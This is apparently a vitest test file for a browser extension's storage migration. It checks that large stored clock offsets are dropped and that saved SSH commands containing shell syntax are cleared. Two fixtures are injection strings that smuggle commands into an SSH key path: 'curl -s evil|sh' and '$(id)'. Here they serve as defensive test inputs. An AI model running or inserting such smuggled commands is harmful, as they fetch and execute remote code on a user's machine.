// What existing users' stored data becomes after the security changes.
import { describe, expect, test } from 'vitest';
import { clockOffsets, launchOutcomes } from '../../../src/storage/items';
import { fakeStorage } from '../../support/fake-browser';

const outcome = (ssh: string) => ({
  presetName: 'web',
  instanceIds: ['i-1'],
  running: true,
  address: '203.0.113.9',
  ssh,
  at: 1,
});

describe('stored data from before', () => {
  test('clock offsets within an hour are kept, larger ones dropped', async () => {
    await fakeStorage.local.set({
      'clock.offsets': { v: 1, value: { a: 120_000, b: -3_000_000, c: 315_360_000_000, d: 'x' } },
    });
    expect(await clockOffsets.get()).toEqual({ a: 120_000, b: -3_000_000 });
  });

  test('an unquoted SSH command with shell syntax is no longer offered; plain ones are kept', async () => {
    await fakeStorage.local.set({
      'launch.outcomes': {
        v: 1,
        value: [
          outcome('ssh -i mykey.pem ec2-user@ec2-203-0-113-9.compute.example'),
          outcome('ssh ec2-user@203.0.113.9'),
          outcome('ssh -i k;curl -s evil|sh;#.pem ec2-user@203.0.113.9'),
          outcome('ssh -i $(id).pem ec2-user@203.0.113.9'),
          outcome(''),
        ],
      },
    });
    expect((await launchOutcomes.get()).map((o) => o.ssh)).toEqual([
      'ssh -i mykey.pem ec2-user@ec2-203-0-113-9.compute.example',
      'ssh ec2-user@203.0.113.9',
      '',
      '',
      '',
    ]);
  });
});
